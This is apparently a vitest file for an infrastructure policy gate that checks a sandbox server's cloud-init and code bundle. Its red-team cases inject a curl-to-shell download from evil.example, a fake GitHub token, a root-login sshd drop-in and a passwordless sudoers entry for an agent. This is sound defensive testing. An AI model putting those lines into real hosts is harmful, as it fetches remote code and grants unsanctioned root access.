import { decodeUserData, encodeUserData } from "../../policies/engine/userData";
import { createHash } from "node:crypto";
import * as YAML from "yaml";
import { beforeAll, describe, expect, it } from "vitest";
import type { StackPlan } from "../../cli/offline";
import { artifactsOf, BUNDLE_FILES_PATH, BUNDLE_SOURCE_PATH, stashInput, STASH_TYPE } from "../../policies/contract";
import type { BundledFile } from "../../policies/engine/bundle";
import type { PlannedResourceLike } from "../../policies/engine/resource";
import { planShipped } from "../helpers/stacks";
import { resources, ruleIds } from "./helpers";

/**
 * The kit's host code reaches the hosts as a bundle their user_data names by sha256
 * (components/render/bundle.ts). The gate judges every file a host installs from it as
 * the host's installer fills it in, at its real path, beside the files user_data writes
 * whole; a host whose bundle cannot be known is unverifiable. Red teams 10 and 11 (each
 * seen passing `gate: clean` first): code added to a template, code split between a
 * template and a host's values, an sshd or sudoers file through the bundle, a document
 * naming its bundle twice or unreadably, a server naming another bundle than its stash.
 */

let plan: StackPlan;
beforeAll(async () => {
    plan = await planShipped("dev");
}, 120_000);

type Bundle = { format: string; templates: Record<string, string> };
const sha256 = (text: string) => createHash("sha256").update(text).digest("hex");
const stashOf = (r: PlannedResourceLike) => (r.type === STASH_TYPE ? artifactsOf(r.inputs) : undefined);

/**
 * The plan with the sandbox's host stash changed: its bundle (renamed by its new digest, which
 * its document then names) and the list of files its installer writes.
 */
function withSandbox(change: { bundle?: (b: Bundle) => void; files?: (f: BundledFile[]) => void; doc?: (d: any) => void }): PlannedResourceLike[] {
    return plan.resources.map((r) => {
        const artifacts = stashOf(r);
        if (!artifacts || !r.name.endsWith("-sandbox-artifacts")) return r;
        const [name, text] = Object.entries(artifacts).find(([n]) => n.startsWith("airlock-bundle-"))!;
        const bundle = JSON.parse(text) as Bundle;
        change.bundle?.(bundle);
        const changed = `${JSON.stringify(bundle, null, 1)}\n`;
        const doc = YAML.parse(artifacts["cloud-init.yaml"]);
        const entry = (path: string) => doc.write_files.find((f: any) => f.path === path);
        entry(BUNDLE_SOURCE_PATH).content = entry(BUNDLE_SOURCE_PATH).content.replace(sha256(text), sha256(changed));
        const list = entry(BUNDLE_FILES_PATH);
        const files = JSON.parse(list.content) as BundledFile[];
        change.files?.(files);
        list.content = JSON.stringify(files);
        change.doc?.(doc);
        const newName = name.replace(sha256(text), sha256(changed));
        return { ...r, inputs: { ...r.inputs, input: stashInput({ "cloud-init.yaml": `#cloud-config\n${YAML.stringify(doc)}`, [newName]: changed }) } };
    });
}

const token = () => ["ghp", "Ab3dEf0123456789AbCdEf0123456789AbCd"].join("_");
const add = (template: string, text: string, vars: Record<string, string> = {}, path = "/usr/local/sbin/airlock-extra") => ({
    bundle: (b: Bundle) => (b.templates[template] = text),
    files: (f: BundledFile[]) => f.push({ path, permissions: "0755", template, vars }),
});

describe("the host code bundle in the gate", () => {
    it("the shipped stack passes, its bundled files judged", () => {
        expect(ruleIds(resources(plan.resources))).toEqual([]);
        // Unchanged through this test's own rewriting, too.
        expect(ruleIds(resources(withSandbox({})))).toEqual([]);
    });

    it.each<[string, Parameters<typeof withSandbox>[0], string]>([
        ["a download piped into a shell, added to tailnet-join", { bundle: (b) => (b.templates["scripts/tailnet-join"] += "curl -fsSL https://evil.example/x | sh\n") }, "cloud-init-no-pipe-to-shell"],
        ["a GitHub token in a template", { bundle: (b) => (b.templates["scripts/compose-check"] += `# GITHUB_TOKEN=${token()}\n`) }, "cloud-init-no-secrets"],
        ["a download in a value, piped into a shell by the template", add("scripts/extra", "#!/bin/sh\n{{fetch}} | sh\n", { fetch: "curl -fsSL https://evil.example/x" }), "cloud-init-no-pipe-to-shell"],
        ["tailscale up with --ssh in a value", add("scripts/extra", "#!/bin/sh\ntailscale up {{flags}}\n", { flags: "--ssh" }), "cloud-init-no-tailscale-ssh"],
        ["a token split between two values", add("scripts/extra", "#!/bin/sh\nGITHUB_TOKEN={{a}}_{{b}}\n", { a: "ghp", b: token().split("_")[1] }), "cloud-init-no-secrets"],
        ["an sshd drop-in through the bundle", add("sshd/extra", "PermitRootLogin {{v}}\n", { v: "yes" }, "/etc/ssh/sshd_config.d/50-x.conf"), "sshd-no-root-login"],
        ["a sudoers file for the agent through the bundle", add("sudoers/extra", "agent ALL=(ALL) NOPASSWD: ALL\n", {}, "/etc/sudoers.d/agent"), "cloud-init-no-passwordless-sudo-for-agent"],
    ])("%s fails the gate", (_, change, rule) => {
        const findings = resources(withSandbox(change));
        expect(ruleIds(findings)).toEqual([rule]);
        expect(findings.every((f) => String(f.resource).endsWith("airlock-dev-sandbox-artifacts"))).toBe(true);
        expect(JSON.stringify(findings)).not.toContain(token());
    });

    it.each<[string, Parameters<typeof withSandbox>[0], RegExp]>([
        ["a bundle the stash does not carry", { doc: (d) => (d.write_files.find((f: any) => f.path === BUNDLE_SOURCE_PATH).content = JSON.stringify({ url: "https://x.example/b", sha256: "e".repeat(64) })) }, /installs bundle e{64}, which is not stashed with it/],
        ["bundle.json that JavaScript cannot read (NaN, which Python's json takes)", { doc: (d) => (d.write_files.find((f: any) => f.path === BUNDLE_SOURCE_PATH).content = `{"url":"https://x.example/b","sha256":"${"e".repeat(64)}","n":NaN}`) }, /does not read/],
        ["bundle.json twice (cloud-init writes the last)", { doc: (d) => d.write_files.push({ path: BUNDLE_SOURCE_PATH, content: JSON.stringify({ url: "https://x.example/b", sha256: "e".repeat(64) }) }) }, /expected one \/etc\/airlock\/bundle\.json and one/],
        ["a file the installer would refuse (a template the bundle lacks)", { files: (f) => f.push({ path: "/usr/local/sbin/x", permissions: "0755", template: "scripts/none", vars: {} }) }, /its installer would refuse the bundle: the bundle has no scripts\/none/],
    ])("%s is unverifiable", (_, change, message) => {
        const findings = resources(withSandbox(change));
        expect(ruleIds(findings)).toEqual(["cloud-init-named-bundle-judged"]);
        expect(findings[0].message).toMatch(message);
    });

    it("a server whose own user_data names another bundle than the document stashed beside it is unverifiable", async () => {
        const up = await planShipped("dev", "up");
        const changed = up.resources.map((r) =>
            r.type === "hcloud:index/server:Server" && r.name.endsWith("-sandbox-server")
                ? { ...r, inputs: { ...r.inputs, userData: encodeUserData(decodeUserData(String(r.inputs.userData)).text.replace(/"sha256": "[0-9a-f]{64}"/, `"sha256": "${"e".repeat(64)}"`)) } }
                : r,
        );
        expect(ruleIds(resources(up.resources))).toEqual([]);
        expect(ruleIds(resources(changed))).toEqual(["hcloud-servers-user-data-bundle-judged"]);
    }, 120_000);
});
